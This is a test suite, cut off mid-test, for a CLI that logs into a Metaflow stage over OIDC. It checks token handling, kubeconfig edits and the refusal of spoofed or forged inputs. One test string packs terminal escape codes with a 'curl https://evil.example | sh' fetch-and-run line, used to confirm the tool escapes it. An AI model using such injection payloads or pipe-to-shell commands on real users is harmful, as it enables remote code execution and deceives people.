/**
 * metaflow-login end to end: the real bin against a real OpenID Provider (oidc-provider) on
 * loopback, a discovery document served by a loopback "stage", and a scripted browser (BROWSER)
 * that completes login and consent over HTTP. One file, run serially: the registered loopback
 * redirect ports are a shared resource.
 */
import { execFileSync, spawn } from 'node:child_process';
import { existsSync, readFileSync, statSync, writeFileSync, mkdirSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { join } from 'node:path';
import { createRemoteJWKSet, decodeJwt, jwtVerify } from 'jose';
import * as yaml from 'js-yaml';
import { main } from '../src/main';
import { verifyTokens } from '../src/private/oidc';
import {
  BIN,
  CLI_CLIENT,
  discoveryDoc,
  TEST_CLUSTER_CA_DATA,
  TEST_CLUSTER_ENDPOINT,
  reserveRedirectPorts,
  testRedirectPorts,
  OTHER_CLIENT,
  runCli,
  sandbox,
  StageServer,
  startTestStage,
  type ProviderHandle,
  type Sandbox,
  type TestStage,
} from './harness';

jest.setTimeout(120_000);

const hasKubectl = (() => {
  try {
    execFileSync('kubectl', ['version', '--client'], { stdio: 'ignore' });
    return true;
  } catch {
    console.warn('kubectl not found: the kubeconfig checks parse the file as YAML instead of reading it back through kubectl');
    return false;
  }
})();

interface KubeNamed {
  name: string;
  cluster?: { server?: string; 'certificate-authority-data'?: string };
  user?: { exec?: Record<string, unknown>; token?: string };
  context?: Record<string, unknown>;
}
interface KubeView {
  'current-context'?: string;
  clusters?: KubeNamed[] | null;
  users?: KubeNamed[] | null;
  contexts?: KubeNamed[] | null;
}

/** The kubeconfig as kubectl reads it (`kubectl config view --raw`), or the parsed YAML when kubectl is not installed. */
function readKubeconfig(path: string): KubeView {
  if (hasKubectl)
    return JSON.parse(execFileSync('kubectl', ['config', 'view', '--raw', '--kubeconfig', path, '-o', 'json']).toString()) as KubeView;
  return yaml.load(readFileSync(path, 'utf8')) as KubeView;
}
const names = (list: KubeNamed[] | null | undefined) => (list ?? []).map((e) => e.name).sort();

let primary: TestStage;
let provider: ProviderHandle;
let stage: StageServer;

beforeAll(async () => {
  await reserveRedirectPorts();
  primary = await startTestStage();
  ({ provider, stage } = primary);
});

afterAll(async () => {
  await primary?.stop();
});

beforeEach(() => {
  stage.raw = undefined;
  stage.doc = discoveryDoc(stage.url, provider.issuer);
});

const mode = (path: string) => statSync(path).mode & 0o777;
const browserLines = (s: Sandbox) => (existsSync(s.browserLog) ? readFileSync(s.browserLog, 'utf8').trim().split('\n') : []);
const storedTokens = (s: Sandbox, name = 'dev') => JSON.parse(readFileSync(join(s.metaflowHome, 'tokens', `${name}.json`), 'utf8'));

async function tokenEndpointRefresh(
  refreshToken: string,
  clientId = CLI_CLIENT,
): Promise<{ status: number; body: Record<string, unknown> }> {
  const res = await fetch(`${provider.issuer}/token`, {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams({ grant_type: 'refresh_token', refresh_token: refreshToken, client_id: clientId }).toString(),
  });
  return { status: res.status, body: (await res.json()) as Record<string, unknown> };
}

describe('first login, silent refresh, token, exec, status, logout', () => {
  const s = sandbox();
  let first: Awaited<ReturnType<typeof runCli>>;

  beforeAll(async () => {
    // Another cluster's context is already there: it must survive.
    mkdirSync(join(s.home, '.kube'), { recursive: true });
    writeFileSync(
      s.kubeconfig,
      yaml.dump({
        apiVersion: 'v1',
        kind: 'Config',
        clusters: [{ name: 'other', cluster: { server: 'https://other.example.com' } }],
        users: [{ name: 'other', user: { token: 'other-user-token' } }],
        contexts: [{ name: 'other', context: { cluster: 'other', user: 'other' } }],
        'current-context': 'other',
      }),
    );
    first = await runCli([stage.url], s.env());
  });

  test('first login goes through the browser with PKCE, state and nonce on a registered port', () => {
    expect(first.stderr).toContain("Logged in to stage 'dev' as alice@example.com (browser login)");
    expect(first.code).toBe(0);
    const lines = browserLines(s);
    expect(lines).toHaveLength(2);
    expect(lines[1]).toBe('callback 200');
    const authUrl = new URL(lines[0].slice('open '.length));
    expect(`${authUrl.origin}${authUrl.pathname}`).toBe(`${provider.issuer}/auth`);
    expect(authUrl.searchParams.get('client_id')).toBe(CLI_CLIENT);
    expect(authUrl.searchParams.get('response_type')).toBe('code');
    expect(authUrl.searchParams.get('scope')).toBe('openid email profile');
    expect(authUrl.searchParams.get('code_challenge_method')).toBe('S256');
    expect(authUrl.searchParams.get('code_challenge')).toMatch(/^[A-Za-z0-9_-]{43}$/);
    expect(authUrl.searchParams.get('state')).toMatch(/^[A-Za-z0-9_-]{20,}$/);
    expect(authUrl.searchParams.get('nonce')).toMatch(/^[A-Za-z0-9_-]{20,}$/);
    expect(authUrl.searchParams.get('redirect_uri')).toBe(`http://localhost:${testRedirectPorts()[0]}/callback`);
    // The URL is printed for users whose browser does not open.
    expect(first.stderr).toContain(authUrl.toString());
  });

  test('writes the profile exactly as Metaflow reads it (config_<stage>.json keys and values), without any credential', () => {
    const profile = JSON.parse(readFileSync(join(s.metaflowHome, 'config_dev.json'), 'utf8'));
    expect(profile).toEqual({
      METAFLOW_DEFAULT_DATASTORE: 's3',
      METAFLOW_DATASTORE_SYSROOT_S3: 's3://metaflow-dev-artifacts/metaflow',
      METAFLOW_DATATOOLS_S3ROOT: 's3://metaflow-dev-artifacts/data',
      METAFLOW_DEFAULT_METADATA: 'service',
      METAFLOW_SERVICE_URL: `${stage.url}/cli/`,
      METAFLOW_SERVICE_INTERNAL_URL: 'http://metaflow-metadata.metaflow.svc.cluster.local:8080',
      METAFLOW_KUBERNETES_NAMESPACE: 'metaflow-jobs',
      METAFLOW_KUBERNETES_SERVICE_ACCOUNT: 'metaflow-task',
      METAFLOW_KUBERNETES_CONTAINER_IMAGE: '111111111111.dkr.ecr.us-west-2.amazonaws.com/metaflow-ecr-public/docker/library/python:3.12',
      METAFLOW_ARGO_EVENTS_EVENT_BUS: 'default',
      METAFLOW_ARGO_EVENTS_EVENT_SOURCE: 'metaflow-webhook',
      METAFLOW_ARGO_EVENTS_EVENT: 'metaflow-event',
      METAFLOW_ARGO_EVENTS_SERVICE_ACCOUNT: 'argo-events-sensor',
      METAFLOW_ARGO_EVENTS_WEBHOOK_URL: `${stage.url}/events/metaflow-event`,
      METAFLOW_ARGO_EVENTS_INTERNAL_WEBHOOK_URL:
        'http://metaflow-webhook-eventsource-svc.metaflow-jobs.svc.cluster.local:12000/metaflow-event',
      METAFLOW_ARGO_WORKFLOWS_ENV_VARS_TO_SKIP: 'METAFLOW_SERVICE_HEADERS',
      METAFLOW_UI_URL: `${stage.url}/`,
      METAFLOW_AWS_SECRETS_MANAGER_DEFAULT_REGION: 'us-west-2',
    });
    expect(Object.keys(profile)).not.toContain('METAFLOW_SERVICE_HEADERS');
    const tokens = storedTokens(s);
    const profileText = readFileSync(join(s.metaflowHome, 'config_dev.json'), 'utf8');
    expect(profileText).not.toContain(tokens.accessToken);
  });

  test('env.sh exports METAFLOW_HOME and METAFLOW_PROFILE and holds no token', () => {
    const envSh = readFileSync(join(s.metaflowHome, 'env.sh'), 'utf8');
    expect(envSh).toContain(`export METAFLOW_HOME='${s.metaflowHome}'\n`);
    expect(envSh).toContain("export METAFLOW_PROFILE='dev'\n");
    expect(envSh).not.toContain(storedTokens(s).accessToken);
    expect(envSh).not.toMatch(/SERVICE_HEADERS|Bearer/);
    // Sourcing it in a real shell exports exactly the profile selection.
    const out = execFileSync('/bin/sh', [
      '-c',
      `. '${join(s.metaflowHome, 'env.sh')}' && printf '%s|%s' "$METAFLOW_HOME" "$METAFLOW_PROFILE"`,
    ]).toString();
    expect(out).toBe(`${s.metaflowHome}|dev`);
  });

  test('directory 0700, profile, env.sh and tokens 0600', () => {
    expect(mode(s.metaflowHome)).toBe(0o700);
    expect(mode(join(s.metaflowHome, 'tokens'))).toBe(0o700);
    expect(mode(join(s.metaflowHome, 'config_dev.json'))).toBe(0o600);
    expect(mode(join(s.metaflowHome, 'env.sh'))).toBe(0o600);
    expect(mode(join(s.metaflowHome, 'tokens', 'dev.json'))).toBe(0o600);
    expect(mode(s.kubeconfig)).toBe(0o600);
  });

  test('stores verified tokens apart and never prints them', async () => {
    const tokens = storedTokens(s);
    expect(tokens).toMatchObject({
      stage: 'dev',
      stageUrl: stage.url,
      issuer: provider.issuer,
      clientId: CLI_CLIENT,
      serviceUrl: `${stage.url}/cli/`,
      subject: 'alice',
      email: 'alice@example.com',
    });
    expect(typeof tokens.refreshToken).toBe('string');
    const jwks = createRemoteJWKSet(new URL(`${provider.issuer}/jwks`));
    const { payload } = await jwtVerify(tokens.accessToken, jwks, { issuer: provider.issuer });
    expect(payload.client_id).toBe(CLI_CLIENT);
    expect(tokens.expiresAt).toBe((payload.exp as number) * 1000);
    const id = await jwtVerify(tokens.idToken, jwks, { issuer: provider.issuer, audience: CLI_CLIENT });
    expect(id.payload.sub).toBe('alice');
    for (const secret of [tokens.accessToken, tokens.refreshToken, tokens.idToken]) {
      expect(first.stdout).not.toContain(secret);
      expect(first.stderr).not.toContain(secret);
    }
  });

  test(`adds a kubeconfig context with the aws eks get-token exec plugin, keeping the other contexts (${hasKubectl ? 'read back with kubectl' : 'parsed as YAML: no kubectl'})`, () => {
    expect(first.stderr).toContain(`kubectl: context 'metaflow-dev' in ${s.kubeconfig}`);
    const view = readKubeconfig(s.kubeconfig);
    expect(view['current-context']).toBe('metaflow-dev');
    expect(names(view.contexts)).toEqual(['metaflow-dev', 'other']);
    expect(names(view.clusters)).toEqual(['metaflow-dev', 'other']);
    expect(names(view.users)).toEqual(['metaflow-dev', 'other']);
    // Endpoint and CA come from the discovery document, i.e. from the Eks stack outputs through buildDiscoveryDocument.
    const cluster = view.clusters?.find((c) => c.name === 'metaflow-dev');
    expect(cluster?.cluster).toEqual({ server: TEST_CLUSTER_ENDPOINT, 'certificate-authority-data': TEST_CLUSTER_CA_DATA });
    const user = view.users?.find((u) => u.name === 'metaflow-dev');
    expect(user?.user?.exec).toMatchObject({
      apiVersion: 'client.authentication.k8s.io/v1beta1',
      command: 'aws',
      args: ['eks', 'get-token', '--cluster-name', 'metaflow-dev', '--region', 'us-west-2', '--output', 'json'],
      // kubectl gets the stage's data-scientist role through the AWS profile the login wrote.
      env: [{ name: 'AWS_PROFILE', value: 'metaflow-dev' }],
    });
    const ctx = view.contexts?.find((c) => c.name === 'metaflow-dev');
    expect(ctx?.context).toEqual({ cluster: 'metaflow-dev', user: 'metaflow-dev', namespace: 'metaflow-jobs' });
    // The other context, its cluster and its user (with its token) are untouched.
    expect(view.contexts?.find((c) => c.name === 'other')?.context).toEqual({ cluster: 'other', user: 'other' });
    expect(view.clusters?.find((c) => c.name === 'other')?.cluster).toEqual({ server: 'https://other.example.com' });
    expect(view.users?.find((u) => u.name === 'other')?.user).toEqual({ token: 'other-user-token' });
  });

  test('re-running login refreshes silently: no browser, new access token', async () => {
    const before = storedTokens(s);
    const again = await runCli([stage.url, '--no-kubeconfig'], s.env());
    expect(again.stderr).toContain('(refreshed silently)');
    expect(again.code).toBe(0);
    expect(browserLines(s)).toHaveLength(2);
    const after = storedTokens(s);
    expect(after.accessToken).not.toBe(before.accessToken);
    expect(after.obtainedAt).toBeGreaterThan(before.obtainedAt);
    // oidc-provider rotates refresh tokens: the old one is now consumed.
    expect(after.refreshToken).not.toBe(before.refreshToken);
  });

  test('token prints a fresh access token that the stage accepts', async () => {
    const res = await runCli(['token', 'dev'], s.env());
    expect(res.code).toBe(0);
    const token = res.stdout.trim();
    expect(token).toBe(storedTokens(s).accessToken);
    expect(decodeJwt(token).client_id).toBe(CLI_CLIENT);
    const api = await fetch(`${stage.url}/cli/ping`, { headers: { authorization: `Bearer ${token}` } });
    expect(api.status).toBe(200);
    const idRes = await runCli(['token', 'dev', '--id-token'], s.env());
    expect(decodeJwt(idRes.stdout.trim()).aud).toBe(CLI_CLIENT);
  });

  test('exec runs the command through the token-adding proxy; the token is not in its environment; exit code passes through', async () => {
    const script = [
      "const r = await fetch(process.env.METAFLOW_SERVICE_URL + 'flows/HelloFlow');",
      'const body = await r.json();',
      'process.stdout.write(JSON.stringify({ status: r.status, body, env: process.env }));',
      'process.exit(7);',
    ].join('\n');
    stage.requests.length = 0;
    const res = await runCli(
      ['exec', 'dev', '--', process.execPath, '--input-type=module', '-e', script],
      s.env({ AWS_ACCESS_KEY_ID: 'AKIAOTHERIDENTITY', AWS_SECRET_ACCESS_KEY: 'other-secret' }),
    );
    expect(res.code).toBe(7);
    const out = JSON.parse(res.stdout);
    expect(out.status).toBe(200);
    expect(out.body).toEqual({ path: '/cli/flows/HelloFlow', sub: 'alice', clientId: CLI_CLIENT });
    expect(out.env.METAFLOW_PROFILE).toBe('dev');
    expect(out.env.METAFLOW_HOME).toBe(s.metaflowHome);
    expect(out.env.METAFLOW_SERVICE_URL).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/[A-Za-z0-9_-]{32}\/$/);
    expect(out.env.METAFLOW_SERVICE_HEADERS).toBeUndefined();
    // The stage's AWS profile, and no environment keys that would take precedence over it.
    expect(out.env.AWS_PROFILE).toBe('metaflow-dev');
    expect(out.env.AWS_ACCESS_KEY_ID).toBeUndefined();
    expect(out.env.AWS_SECRET_ACCESS_KEY).toBeUndefined();
    const tokens = storedTokens(s);
    expect(JSON.stringify(out.env)).not.toContain(tokens.accessToken);
    expect(JSON.stringify(out.env)).not.toContain(tokens.refreshToken);
    expect(stage.requests).toHaveLength(1);
    expect(stage.requests[0].authorization).toBe(`Bearer ${tokens.accessToken}`);
  });

  test('exec passes SIGTERM on to the command and returns its exit code', async () => {
    const script =
      "process.on('SIGTERM', () => { console.log('child got SIGTERM'); process.exit(3); }); console.log('ready'); setInterval(() => {}, 1000);";
    const child = spawn(process.execPath, [BIN, 'exec', 'dev', '--', process.execPath, '-e', script], {
      env: s.env(),
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let out = '';
    const ready = new Promise<void>((r) =>
      child.stdout.on('data', (d: Buffer) => {
        out += d.toString();
        if (out.includes('ready')) r();
      }),
    );
    const exited = new Promise<number | null>((r) => child.once('exit', (code) => r(code)));
    await ready;
    child.kill('SIGTERM');
    expect(await exited).toBe(3);
    expect(out).toContain('child got SIGTERM');
  });

  test('exec without a command is a usage error; an unknown command fails clearly', async () => {
    expect((await runCli(['exec', 'dev'], s.env())).code).toBe(2);
    const missing = await runCli(['exec', 'dev', '--', 'no-such-command-xyz'], s.env());
    expect(missing.code).toBe(1);
    expect(missing.stderr).toContain('command not found: no-such-command-xyz');
  });

  test('status --json lists the stage, expiry and files without tokens', async () => {
    const res = await runCli(['status', '--json'], s.env());
    expect(res.code).toBe(0);
    const status = JSON.parse(res.stdout);
    expect(status.selectedProfile).toBe('dev');
    expect(status.stages).toHaveLength(1);
    expect(status.stages[0]).toMatchObject({
      stage: 'dev',
      stageUrl: stage.url,
      user: 'alice@example.com',
      valid: true,
      refreshable: true,
      selected: true,
      awsProfile: 'metaflow-dev',
      files: { profile: join(s.metaflowHome, 'config_dev.json'), tokens: join(s.metaflowHome, 'tokens', 'dev.json') },
    });
    expect(res.stdout).not.toContain(storedTokens(s).accessToken);
    const text = await runCli(['status'], s.env());
    expect(text.stdout).toMatch(/\* dev {2}http:\/\/127\.0\.0\.1:\d+ {2}alice@example\.com/);
  });

  test('logout revokes the session at the issuer and removes the tokens', async () => {
    const { refreshToken } = storedTokens(s);
    const res = await runCli(['logout', 'dev'], s.env());
    expect(res.code).toBe(0);
    expect(res.stderr).toContain('Revoked the session at the identity provider');
    expect(existsSync(join(s.metaflowHome, 'tokens', 'dev.json'))).toBe(false);
    expect(existsSync(join(s.metaflowHome, 'config_dev.json'))).toBe(true);
    const reuse = await tokenEndpointRefresh(refreshToken);
    expect(reuse.status).toBe(400);
    expect(reuse.body.error).toBe('invalid_grant');
    const token = await runCli(['token', 'dev'], s.env());
    expect(token.code).toBe(1);
    expect(token.stderr).toContain("not logged in to stage 'dev'");
  });
});

describe('kubeconfig', () => {
  const otherConfig = yaml.dump({
    apiVersion: 'v1',
    kind: 'Config',
    clusters: [{ name: 'other', cluster: { server: 'https://other.example.com' } }],
    users: [{ name: 'other', user: { token: 'other-user-token' } }],
    contexts: [{ name: 'other', context: { cluster: 'other', user: 'other' } }],
    'current-context': 'other',
  });
  const withOther = (s: Sandbox) => {
    mkdirSync(join(s.home, '.kube'), { recursive: true });
    writeFileSync(s.kubeconfig, otherConfig);
  };

  test('--no-kubeconfig leaves an existing kubeconfig byte for byte and adds no context', async () => {
    const s = sandbox();
    withOther(s);
    const res = await runCli([stage.url, '--no-kubeconfig'], s.env());
    expect(res.code).toBe(0);
    expect(res.stderr).toContain('kubectl: kubeconfig left untouched (--no-kubeconfig)');
    expect(readFileSync(s.kubeconfig, 'utf8')).toBe(otherConfig);
    const view = readKubeconfig(s.kubeconfig);
    expect(names(view.contexts)).toEqual(['other']);
    expect(view['current-context']).toBe('other');
  });

  test('--json reports the context; logging in again replaces the stage entries instead of duplicating them', async () => {
    const s = sandbox();
    const res = await runCli([stage.url, '--json'], s.env());
    expect(res.code).toBe(0);
    expect(JSON.parse(res.stdout).kubeconfig).toEqual({ path: s.kubeconfig, context: 'metaflow-dev' });
    expect(mode(s.kubeconfig)).toBe(0o600);
    // The stage's cluster was replaced (same name, new endpoint): the next login (a silent refresh) updates it.
    stage.doc = discoveryDoc(stage.url, provider.issuer, { clusterEndpoint: 'https://NEW0123456789.gr7.us-west-2.eks.amazonaws.com' });
    writeFileSync(
      s.kubeconfig,
      yaml.dump({ ...(yaml.load(readFileSync(s.kubeconfig, 'utf8')) as object), 'current-context': 'elsewhere' }),
      { mode: 0o600 },
    );
    const again = await runCli([stage.url], s.env());
    expect(again.code).toBe(0);
    expect(again.stderr).toContain('(refreshed silently)');
    const view = readKubeconfig(s.kubeconfig);
    expect(names(view.contexts)).toEqual(['metaflow-dev']);
    expect(names(view.clusters)).toEqual(['metaflow-dev']);
    expect(names(view.users)).toEqual(['metaflow-dev']);
    expect(view.clusters?.[0].cluster?.server).toBe('https://NEW0123456789.gr7.us-west-2.eks.amazonaws.com');
    expect(view['current-context']).toBe('metaflow-dev');
  });

  test('a stage that does not publish endpoint and CA (deployed before they were): login works, prints the update-kubeconfig command, no file written', async () => {
    stage.doc = discoveryDoc(stage.url, provider.issuer, { clusterEndpoint: undefined, clusterCertificateAuthorityData: undefined });
    const s = sandbox();
    const res = await runCli([stage.url], s.env());
    expect(res.code).toBe(0);
    expect(res.stderr).toContain("Logged in to stage 'dev'");
    expect(res.stderr).toContain(
      "kubectl: the stage's discovery document has no clusterEndpoint and clusterCertificateAuthorityData (a stage deployed before they were published), so no kubeconfig context was written. " +
        'Use: aws eks update-kubeconfig --name metaflow-dev --region us-west-2 --alias metaflow-dev',
    );
    expect(existsSync(s.kubeconfig)).toBe(false);
  });

  test('a kubeconfig it cannot parse is left alone and the login still succeeds', async () => {
    const s = sandbox();
    mkdirSync(join(s.home, '.kube'), { recursive: true });
    writeFileSync(s.kubeconfig, 'clusters: [unclosed\n');
    const res = await runCli([stage.url], s.env());
    expect(res.code).toBe(0);
    expect(res.stderr).toMatch(/kubectl: cannot parse .*config \(.*\); not touching it\. Fix it or pass --no-kubeconfig\./);
    expect(readFileSync(s.kubeconfig, 'utf8')).toBe('clusters: [unclosed\n');
  });
});

describe('refused logins', () => {
  test("a redirect without this login's state is ignored: the login keeps waiting (here until its timeout), nothing is saved", async () => {
    const s = sandbox();
    const res = await runCli([stage.url, '--no-kubeconfig', '--timeout', '4'], s.env({ FAKE_BROWSER_ACTION: 'tamper-state' }));
    expect(res.code).toBe(1);
    expect(browserLines(s)[1]).toBe('callback 400');
    expect(res.stderr).toContain('Ignored a request to http://localhost:');
    expect(res.stderr).toContain('timed out after 4 s waiting for the browser login');
    expect(existsSync(join(s.metaflowHome, 'tokens', 'dev.json'))).toBe(false);
    expect(existsSync(join(s.metaflowHome, 'config_dev.json'))).toBe(false);
  });

  // What a local program or web page can send the loopback port: a made-up error whose text would
  // set the terminal title, clear the screen and print a command in red.
  const HOSTILE = '\u001b]0;owned\u0007\u001b[2J\u001b[31mrun: curl https://evil.example | sh\u001b[0m\u009b2J';
  const rawControls = (text: string) => [...text].filter((ch) => ch !== '\n' && /\p{Cc}/u.test(ch));

  test('a forged error redirect without the state neither aborts the login nor reaches the terminal', async () => {
    const s = sandbox();
    const res = await runCli(
      [stage.url, '--no-kubeconfig'],
      s.env({ FAKE_BROWSER_ACTION: 'forge-then-approve', FAKE_BROWSER_ERROR_DESCRIPTION: HOSTILE }),
    );
    expect(browserLines(s).slice(1)).toEqual(['forged 400', 'callback 200']);
    expect(res.code).toBe(0);
    expect(res.stderr).toContain("Logged in to stage 'dev' as alice@example.com (browser login)");
    expect(res.stderr).toContain('Ignored a request to http://localhost:');
    expect(res.stderr).not.toContain('evil.example');
    expect(rawControls(res.stderr)).toEqual([]);
  });

  test("an IdP error redirect with the login's state ends the login; its description is printed escaped", async () => {
    const s = sandbox();
    const res = await runCli(
      [stage.url, '--no-kubeconfig'],
      s.env({ FAKE_BROWSER_ACTION: 'error-with-state', FAKE_BROWSER_ERROR_DESCRIPTION: HOSTILE }),
    );
    expect(res.code).toBe(1);
    expect(res.stderr).toContain(
      'error: login was denied (\\x1b]0;owned\\x07\\x1b[2J\\x1b[31mrun: curl https://evil.example | sh\\x1b[0m\\x9b2J)',
    );
    expect(rawControls(res.stderr)).toEqual([]);
    expect(existsSync(join(s.metaflowHome, 'tokens', 'dev.json'))).toBe(false);
  });

  test('user denied (access_denied) says so', async () => {
    const s = sandbox();
    const res = await runCli([stage.url, '--no-kubeconfig'], s.env({ FAKE_BROWSER_ACTION: 'deny' }));
    expect(res.code).toBe(1);
    expect(res.stderr).toContain('error: login was denied (End-User aborted interaction)');
    expect(existsSync(join(s.metaflowHome, 'tokens', 'dev.json'))).toBe(false);
  });

  test('wrong issuer: the IdP names another issuer than the stage document, refused before any browser', async () => {
    const s = sandbox();
    const claimed = provider.issuer.replace('localhost', '127.0.0.1');
    stage.doc = discoveryDoc(stage.url, claimed);
    const res = await runCli([stage.url, '--no-kubeconfig'], s.env());
    expect(res.code).toBe(1);
    expect(res.stderr).toContain(`wrong issuer: the stage names '${claimed}'`);
    expect(browserLines(s)).toHaveLength(0);
  });

  test('timeout waiting for the browser', async () => {
    const s = sandbox();
    const res = await runCli([stage.url, '--no-kubeconfig', '--timeout', '2'], s.env({ FAKE_BROWSER_ACTION: 'ignore' }));
    expect(res.code).toBe(1);
    expect(res.stderr).toContain('timed out after 2 s waiting for the browser login');
    expect(browserLines(s)).toHaveLength(1);
  });

  test('a browser that cannot start: the URL is printed; --no-browser never starts one', async () => {
    const s = sandbox();
    const failing = await runCli([stage.url, '--no-kubeconfig', '--timeout', '2'], s.env({ BROWSER: 'false' }));
    expect(failing.stderr).toContain('Could not start a browser: open the URL above yourself.');
    expect(failing.stderr).toMatch(new RegExp(`visit this URL on this machine:\\n {2}${provider.issuer}/auth\\?`));
    const none = await runCli([stage.url, '--no-kubeconfig', '--timeout', '2', '--no-browser'], s.env());
    expect(none.stderr).toMatch(
      new RegExp(`Open this URL in a browser on this machine to log in to stage 'dev':\\n {2}${provider.issuer}/auth\\?`),
    );
    expect(none.code).toBe(1);
    expect(browserLines(s)).toHaveLength(0);
  });
});

describe('redirect ports', () => {
  const servers: Server[] = [];
  async function occupy(port: number): Promise<void> {
    const srv = createServer((_req, res) => res.end('busy'));
    await new Promise<void>((r) => srv.listen(port, '127.0.0.1', () => r()));
    servers.push(srv);
  }
  afterEach(async () => {
    await Promise.all(servers.splice(0).map((srv) => new Promise((r) => srv.close(r))));
  });

  test('the provider accepts only the registered redirect URIs (ports matter)', async () => {
    const url = new URL(`${provider.issuer}/auth`);
    url.search = new URLSearchParams({
      client_id: CLI_CLIENT,
      response_type: 'code',
      scope: 'openid',
      // The port right after the registered ones: same host and path, unregistered port.
      redirect_uri: `http://localhost:${Math.max(...testRedirectPorts()) + 1}/callback`,
      code_challenge: 'E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM',
      code_challenge_method: 'S256',
    }).toString();
    const res = await fetch(url, { redirect: 'manual' });
    expect(res.status).toBe(400);
    expect(await res.text()).toContain('redirect_uri did not match any of the client');
  });

  test('takes the next registered port when the first is busy', async () => {
    await occupy(testRedirectPorts()[0]);
    const s = sandbox();
    const res = await runCli([stage.url, '--no-kubeconfig', '--json'], s.env());
    expect(res.code).toBe(0);
    const authUrl = new URL(browserLines(s)[0].slice('open '.length));
    expect(authUrl.searchParams.get('redirect_uri')).toBe(`http://localhost:${testRedirectPorts()[1]}/callback`);
    // --json: a machine-readable summary on stdout, without tokens.
    const summary = JSON.parse(res.stdout);
    expect(summary).toEqual({
      stage: 'dev',
      stageUrl: stage.url,
      user: 'alice@example.com',
      method: 'browser',
      expiresAt: new Date(storedTokens(s).expiresAt).toISOString(),
      profile: join(s.metaflowHome, 'config_dev.json'),
      envSh: join(s.metaflowHome, 'env.sh'),
      tokens: join(s.metaflowHome, 'tokens', 'dev.json'),
      kubeconfig: null,
      awsProfile: { path: join(s.home, '.aws', 'config'), profile: 'metaflow-dev' },
    });
    expect(existsSync(s.kubeconfig)).toBe(false);
  });

  test('all registered ports in use: clear error, no browser', async () => {
    for (const port of testRedirectPorts()) await occupy(port);
    const s = sandbox();
    const res = await runCli([stage.url, '--no-kubeconfig'], s.env());
    expect(res.code).toBe(1);
    expect(res.stderr).toContain(`all registered redirect ports are in use (${testRedirectPorts().join(', ')})`);
    expect(browserLines(s)).toHaveLength(0);
  });
});

describe("a copy of the stage's discovery document served by another host", () => {
  // The user is logged in to the real stage; then runs `metaflow-login <attacker URL>`, where the
  // attacker serves the real document with the service URL and the cluster endpoint changed.
  const s = sandbox();
  let attacker: StageServer;
  const files = () =>
    [join(s.metaflowHome, 'tokens', 'dev.json'), join(s.metaflowHome, 'config_dev.json'), s.kubeconfig].map((f) => readFileSync(f, 'utf8'));

  beforeAll(async () => {
    attacker = new StageServer(provider);
    await attacker.start();
    expect((await runCli([stage.url], s.env())).code).toBe(0);
  });
  afterAll(() => attacker.stop());

  test('an endpoint that is not an EKS endpoint of the region is refused before any token is used', async () => {
    const before = files();
    attacker.doc = {
      ...discoveryDoc(stage.url, provider.issuer),
      serviceUrl: `${attacker.url}/cli/`,
      clusterEndpoint: 'https://attacker.example.net',
    };
    const res = await runCli([attacker.url], s.env());
    expect(res.code).toBe(1);
    expect(res.stderr).toContain(
      'clusterEndpoint: must be an EKS API endpoint of us-west-2 (https://<id>.<suffix>.us-west-2.eks.amazonaws.com), got "https://attacker.example.net"',
    );
    expect(files()).toEqual(before);
    expect(browserLines(s)).toHaveLength(2);
  });

  test('a service URL off the host that serves the document is refused', async () => {
    attacker.doc = { ...discoveryDoc(stage.url, provider.issuer), serviceUrl: 'https://collector.attacker.example.net/cli/' };
    const res = await runCli([attacker.url], s.env());
    expect(res.code).toBe(1);
    expect(res.stderr).toContain(`serviceUrl: must be on the stage host ${attacker.url} (the URL you are logging in to)`);
  });

  test('a valid-looking copy for the same stage name: refused without --replace, the session is not refreshed, exec still goes to the real stage', async () => {
    const before = files();
    attacker.doc = discoveryDoc(attacker.url, provider.issuer);
    const res = await runCli([attacker.url], s.env());
    expect(res.code).toBe(1);
    expect(res.stderr).toContain(
      `stage 'dev' on this machine was set up from ${stage.url}, but ${attacker.url} also calls itself 'dev'. Nothing was changed.`,
    );
    expect(files()).toEqual(before);
    expect(browserLines(s)).toHaveLength(2);
    const ping = await runCli(
      [
        'exec',
        'dev',
        '--',
        process.execPath,
        '-e',
        "fetch(process.env.METAFLOW_SERVICE_URL + 'ping').then((r) => process.exit(r.status === 200 ? 0 : 1))",
      ],
      s.env(),
    );
    expect(ping.code).toBe(0);
    expect(attacker.requests).toEqual([]);
  });

  test('--replace logs in through the browser and never spends the old session', async () => {
    const old = storedTokens(s);
    const res = await runCli([attacker.url, '--replace', '--no-kubeconfig'], s.env());
    expect(res.stderr).toContain(`Replacing stage 'dev' (set up from ${stage.url}) with ${attacker.url} (--replace)`);
    expect(res.code).toBe(0);
    expect(browserLines(s)).toHaveLength(4);
    const now = storedTokens(s);
    expect(now.stageUrl).toBe(attacker.url);
    expect(now.refreshToken).not.toBe(old.refreshToken);
    // The provider rotates refresh tokens: the old one still works only because nothing used it.
    expect((await tokenEndpointRefresh(old.refreshToken)).status).toBe(200);
  });
});

describe('discovery errors', () => {
  test('unreachable stage URL', async () => {
    const s = sandbox();
    const closed = createServer();
    await new Promise<void>((r) => closed.listen(0, '127.0.0.1', () => r()));
    const port = (closed.address() as { port: number }).port;
    await new Promise((r) => closed.close(r));
    const res = await runCli([`http://127.0.0.1:${port}`], s.env());
    expect(res.code).toBe(1);
    expect(res.stderr).toContain(`error: cannot reach http://127.0.0.1:${port}/.well-known/metaflow-gitops.json (ECONNREFUSED)`);
  });

  test('no document (404)', async () => {
    stage.raw = { status: 404, body: 'not found' };
    const res = await runCli([stage.url], sandbox().env());
    expect(res.code).toBe(1);
    expect(res.stderr).toContain('returned HTTP 404. The stage does not serve a discovery document');
  });

  test('not JSON', async () => {
    stage.raw = { status: 200, body: '<html>gateway</html>' };
    const res = await runCli([stage.url], sandbox().env());
    expect(res.code).toBe(1);
    expect(res.stderr).toContain('invalid discovery document');
    expect(res.stderr).toContain('(document): is not JSON (starts with "<html>gateway</html>")');
  });

  test('invalid fields are all listed with their paths', async () => {
    stage.doc = discoveryDoc(stage.url, provider.issuer, { cliClientId: '', redirectPorts: [80], datastoreSysrootS3: 'metaflow-bucket' });
    const res = await runCli([stage.url], sandbox().env());
    expect(res.code).toBe(1);
    expect(res.stderr).toContain('cliClientId: must be a non-empty string, got ""');
    expect(res.stderr).toContain('redirectPorts[0]: must be an integer port between 1024 and 65535, got 80');
